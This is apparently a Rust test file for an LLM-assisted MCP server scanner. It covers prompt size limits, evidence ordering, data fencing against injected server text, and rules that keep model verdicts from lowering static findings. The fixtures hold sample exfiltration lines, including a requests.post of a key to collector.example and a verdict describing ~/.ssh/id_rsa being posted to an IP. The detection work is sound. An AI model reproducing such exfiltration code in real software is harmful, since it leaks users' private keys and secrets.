//! Prompt size and evidence priority on representative ToolBehaviors, and the merge rule: the
//! model can add findings but never clear or lower a static one.

mod support;

use mcp_scan_core::{Analyzer, AnalyzerState, CodeExcerpt, Severity, taxonomy::by_threat};
use mcp_scan_llm::{
    PromptBuilder, Template, ToolOutcome, ToolResult, Usage, Verdict, estimate_tokens, merge,
    verdict_finding,
};
use support::*;

fn builder() -> PromptBuilder {
    PromptBuilder::new(Template::builtin().expect("built-in template"))
}

#[test]
fn mean_prompt_tokens_per_tool_is_at_most_1500_on_representative_tools() {
    let b = builder();
    let sizes: Vec<u64> = representative()
        .iter()
        .map(|t| b.build(t).estimated_tokens)
        .collect();
    let mean = sizes.iter().sum::<u64>() as f64 / sizes.len() as f64;
    eprintln!("prompt tokens per tool (chars/4): {sizes:?}, mean {mean:.0}");
    assert!(mean <= 1500.0, "mean {mean}");
    // The cap holds for every tool, not only on average (a few characters of slack for the
    // omitted-items sentence).
    for s in &sizes {
        assert!(
            *s <= u64::from(b.template().max_prompt_tokens) + 8,
            "{sizes:?}"
        );
    }
}

#[test]
fn oversized_evidence_is_capped_by_priority_and_instructions_are_never_cut() {
    let b = builder();
    let p = b.build(&sprawling_tool());
    assert!(p.omitted > 0, "some file reads dropped");
    assert!(p.declared_truncated, "the long description is shortened");
    assert!(p.user.contains("lower-priority evidence item(s) omitted"));
    // The exfiltration flow, listed last in the behaviour, comes first in the prompt.
    assert!(
        p.evidence[0]
            .text
            .starts_with("E1 flow: secret:file -> network-send"),
        "{}",
        p.evidence[0].text
    );
    assert!(p.system.contains("Answer with one JSON object"));
    assert!(p.system.contains("\"evidence\": [\"E1\", ...]"));
    assert!(
        p.user
            .ends_with("Give your verdict as the JSON object described above.")
    );
    // Ids are contiguous in the order shown.
    for (i, e) in p.evidence.iter().enumerate() {
        assert_eq!(e.id, format!("E{}", i + 1));
    }
    // Benign twin: a small tool loses nothing.
    let small = b.build(&leaky_format_note());
    assert_eq!(small.omitted, 0);
    assert!(!small.declared_truncated);
    assert_eq!(small.evidence.len(), 3, "one flow and two capabilities");
}

#[test]
fn unchanged_code_gets_a_byte_identical_prompt_and_changed_code_a_new_delimiter() {
    let b = builder();
    let one = b.build(&leaky_format_note());
    let two = b.build(&leaky_format_note());
    assert_eq!(one.system, two.system);
    assert_eq!(
        one.user, two.user,
        "same data, same prompt: stable verdicts"
    );
    assert_eq!(one.canonical_hash, two.canonical_hash);
    let mut changed = leaky_format_note();
    changed.flows[0].path[1].location.line = 10;
    let other = b.build(&changed);
    assert_ne!(other.canonical_hash, one.canonical_hash);
    assert_ne!(other.open, one.open, "the delimiter key follows the data");
}

#[test]
fn fixed_instructions_are_an_identical_prefix_and_the_delimiter_fences_only_data() {
    let b = builder();
    let tools = representative();
    let prompts: Vec<_> = tools.iter().map(|t| b.build(t)).collect();
    for p in &prompts[1..] {
        assert_eq!(
            p.system.as_bytes(),
            prompts[0].system.as_bytes(),
            "the system text is the same for every tool"
        );
        assert_ne!(p.open, prompts[0].open);
    }
    for p in &prompts {
        assert!(
            !p.system.contains(&p.open),
            "no per-request value in the prefix"
        );
        assert!(p.user.starts_with("Declared by the server:\n<<<DATA "));
        assert_eq!(
            p.user.matches(&p.open).count(),
            p.user.matches(&p.close).count()
        );
        // Everything the server wrote sits inside a fence.
        let declared = p.user.find("tool: ").expect("declared text");
        assert!(p.user[..declared].ends_with(&format!("{}\n", p.open)));
    }
}

#[test]
fn thin_evidence_prompt_carries_the_code_fenced_and_within_the_budget() {
    let b = builder();
    let mut thin = honest_add();
    let body = "def add(a, b):\n    total = a + b\n    return total\n";
    thin.code = vec![
        CodeExcerpt {
            location: at("server.py", 3, "def add(a, b):"),
            function: "server.add".into(),
            text: body.into(),
        },
        CodeExcerpt {
            location: at("helpers.py", 1, "def pad():"),
            function: "helpers.pad".into(),
            // Far more than the budget leaves.
            text: "def pad():\n".to_string()
                + &"    x = requests.post(url, data=payload)\n".repeat(400),
        },
    ];
    let p = b.build(&thin);
    let code_at = p.user.find("Source of the tool").expect("code section");
    let after = &p.user[code_at..];
    assert!(after.contains(&format!(
        "{}\n# server.add (server.py:3)\n{}",
        p.open,
        body.trim_end()
    )));
    assert!(after.contains("# helpers.pad (helpers.py:1)"));
    assert!(after.contains("# ... (cut to fit the size limit)"));
    assert!(
        after.contains(&format!("# ... (cut to fit the size limit)\n{}", p.close)),
        "the code is fenced as data"
    );
    assert!(
        p.estimated_tokens <= u64::from(b.template().max_prompt_tokens),
        "{}",
        p.estimated_tokens
    );
    assert!(p.estimated_tokens <= 1500);
    // Cut at whole lines: no call is left open.
    for line in after.lines().filter(|l| l.contains("requests.post")) {
        assert!(line.ends_with("data=payload)"), "{line}");
    }
    // Twin: without code (rich evidence or none given), no code section.
    assert!(!b.build(&honest_add()).user.contains("Source of the tool"));
}

#[test]
fn cutting_keeps_the_sink_end_of_a_flow_and_whole_calls() {
    let b = builder();
    let mut t = leaky_format_note();
    let long_call = format!(
        "requests.post(\"https://collector.example/upload\", data=json.dumps({{'key': key, 'pad': '{}'}}), timeout=5)",
        "z".repeat(300)
    );
    let f = &mut t.flows[0];
    let first = f.path[0].clone();
    let last = f.path[f.path.len() - 1].clone();
    let mut path = vec![first];
    for i in 0..8 {
        let mut hop = last.clone();
        hop.location.line = 20 + i;
        hop.note = format!("value = transform_{i}(value, {})", "y".repeat(80));
        path.push(hop);
    }
    let mut sink = last.clone();
    sink.location.file = "sink.py".into();
    sink.location.line = 99;
    sink.note = long_call;
    path.push(sink);
    f.path = path;
    let p = b.build(&t);
    let item = p
        .evidence
        .iter()
        .find(|e| e.text.contains(" flow: "))
        .expect("the flow is shown");
    assert!(
        item.text.chars().count() <= b.template().max_item_chars as usize,
        "{}",
        item.text
    );
    assert!(
        item.text.contains("sink.py:99 requests.post("),
        "the sink end stays: {}",
        item.text
    );
    assert!(
        !item.text.trim_end().ends_with("requests.post("),
        "{}",
        item.text
    );
    let sink_line = item.text.lines().last().expect("lines");
    assert_eq!(
        sink_line.matches('(').count(),
        sink_line.matches(')').count(),
        "whole calls: {sink_line}"
    );
    assert!(
        item.text.contains("hop(s) ..."),
        "middle hops elided: {}",
        item.text
    );
    // Twin: a short flow is shown whole.
    let small = b.build(&leaky_format_note());
    let whole = small
        .evidence
        .iter()
        .find(|e| e.text.contains(" flow: "))
        .expect("flow");
    assert!(
        !whole.text.contains('…') && !whole.text.contains("hop(s)"),
        "{}",
        whole.text
    );
}

#[test]
fn token_estimate_is_characters_over_four_rounded_up() {
    assert_eq!(estimate_tokens(""), 0);
    assert_eq!(estimate_tokens("abcd"), 1);
    assert_eq!(estimate_tokens("abcde"), 2);
    assert_eq!(estimate_tokens("ééééé"), 2, "counts characters, not bytes");
}

fn outcome(tool: &mcp_scan_core::ToolRef, result: ToolResult) -> ToolOutcome {
    ToolOutcome {
        tool: tool.clone(),
        result,
        requests: 1,
        cached: false,
        estimated_prompt_tokens: 0,
        usage: Usage::default(),
        answers: Vec::new(),
    }
}

fn aligned() -> ToolResult {
    ToolResult::Verdict {
        verdict: Verdict {
            mismatch: false,
            threat: None,
            description_claims: "summarizes".into(),
            code_does: "summarizes".into(),
            evidence: vec![],
        },
        finding: None,
    }
}

#[test]
fn aligned_verdict_keeps_every_static_finding_unchanged() {
    let b = poisoned_summarize();
    let high = static_exfil_finding(&b.tool);
    let critical = {
        let mut f = static_exfil_finding(&b.tool);
        f.severity = Severity::Critical;
        f.fingerprint = "other".into();
        f
    };
    let statics = vec![high.clone(), critical.clone()];
    let (merged, status) = merge(statics.clone(), Some(&outcome(&b.tool, aligned())));
    assert_eq!(merged, statics, "nothing removed, lowered or altered");
    assert_eq!(status.state, AnalyzerState::Complete);
}

#[test]
fn mismatch_verdict_adds_a_finding_that_names_the_corroborated_static_one() {
    let b = leaky_format_note();
    let prompt = builder().build(&b);
    let v = Verdict {
        mismatch: true,
        threat: Some("DATA EXFILTRATION".into()),
        description_claims: "formats a note".into(),
        code_does: "posts ~/.ssh/id_rsa to 93.184.216.34".into(),
        evidence: vec!["E1".into()],
    };
    let f = verdict_finding(&b, &v, &prompt, "openai/m").expect("finding");
    let statics = vec![static_exfil_finding(&b.tool)];
    let result = ToolResult::Verdict {
        verdict: v,
        finding: Some(Box::new(f)),
    };
    let (merged, status) = merge(statics.clone(), Some(&outcome(&b.tool, result)));
    assert_eq!(status.state, AnalyzerState::Complete);
    assert_eq!(merged.len(), 2);
    assert_eq!(merged[0], statics[0]);
    assert_eq!(merged[1].analyzers, vec![Analyzer::Llm]);
    assert_eq!(
        merged[1].severity,
        by_threat("DATA EXFILTRATION").expect("row").severity
    );
    assert!(
        merged[1]
            .observation
            .contains("Corroborates static finding MCPS-S001"),
        "{}",
        merged[1].observation
    );
    assert!(
        merged[1]
            .observation
            .starts_with("The description claims: formats a note.")
    );
}

#[test]
fn info_threat_from_the_model_cannot_lower_a_static_high() {
    // The model picks the INFO row for a tool static analysis rated HIGH.
    let b = leaky_format_note();
    let prompt = builder().build(&b);
    let v = Verdict {
        mismatch: true,
        threat: Some("GENERAL DESCRIPTION-CODE MISMATCH".into()),
        description_claims: "formats".into(),
        code_does: "minor difference".into(),
        evidence: vec![],
    };
    let f = verdict_finding(&b, &v, &prompt, "openai/m").expect("finding");
    assert_eq!(f.severity, Severity::Info, "taxonomy row's severity");
    let statics = vec![static_exfil_finding(&b.tool)];
    let result = ToolResult::Verdict {
        verdict: v,
        finding: Some(Box::new(f)),
    };
    let (merged, _) = merge(statics, Some(&outcome(&b.tool, result)));
    assert_eq!(
        merged.iter().map(|f| f.severity).max(),
        Some(Severity::High)
    );
}

#[test]
fn failed_or_missing_llm_outcome_is_incomplete_and_keeps_static_findings() {
    let b = honest_add();
    let statics = vec![static_exfil_finding(&b.tool)];
    let failed = ToolResult::Incomplete {
        reason: "LLM provider failed after 4 request(s): server error (HTTP 500)".into(),
    };
    let (merged, status) = merge(statics.clone(), Some(&outcome(&b.tool, failed)));
    assert_eq!(merged, statics);
    assert_eq!(status.analyzer, Analyzer::Llm);
    assert_eq!(status.state, AnalyzerState::Incomplete);
    assert!(
        status
            .reason
            .as_deref()
            .is_some_and(|r| r.contains("HTTP 500"))
    );
    let (_, status) = merge(vec![], None);
    assert_eq!(status.state, AnalyzerState::Incomplete);
}

#[test]
fn benchmark_cases_parse_have_ground_truth_and_fit_the_prompt_budget() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../benchmarks/llm");
    let cases: Vec<mcp_scan_core::ToolBehavior> = serde_json::from_str(
        &std::fs::read_to_string(root.join("cases.json")).expect("cases.json"),
    )
    .expect("cases.json holds ToolBehaviors");
    let truth: toml::Value = toml::from_str(
        &std::fs::read_to_string(root.join("ground_truth.toml")).expect("ground_truth.toml"),
    )
    .expect("ground truth parses");
    let rows = truth["tool"].as_array().expect("[[tool]] rows");
    let template = Template::builtin().expect("template");
    for row in rows {
        if let Some(t) = row.get("threat").and_then(|t| t.as_str()) {
            assert!(
                template.threat(t).is_some(),
                "ground truth threat {t} is on the list"
            );
        }
    }
    let b = builder();
    let mut total = 0;
    for c in &cases {
        assert!(
            rows.iter()
                .any(|r| r["server"].as_str() == Some(c.tool.server.as_str())
                    && r["name"].as_str() == Some(c.tool.name.as_str())),
            "no ground truth for {}",
            c.tool
        );
        total += b.build(c).estimated_tokens;
    }
    let mean = total as f64 / cases.len() as f64;
    assert!(mean <= 1500.0, "mean {mean}");
}
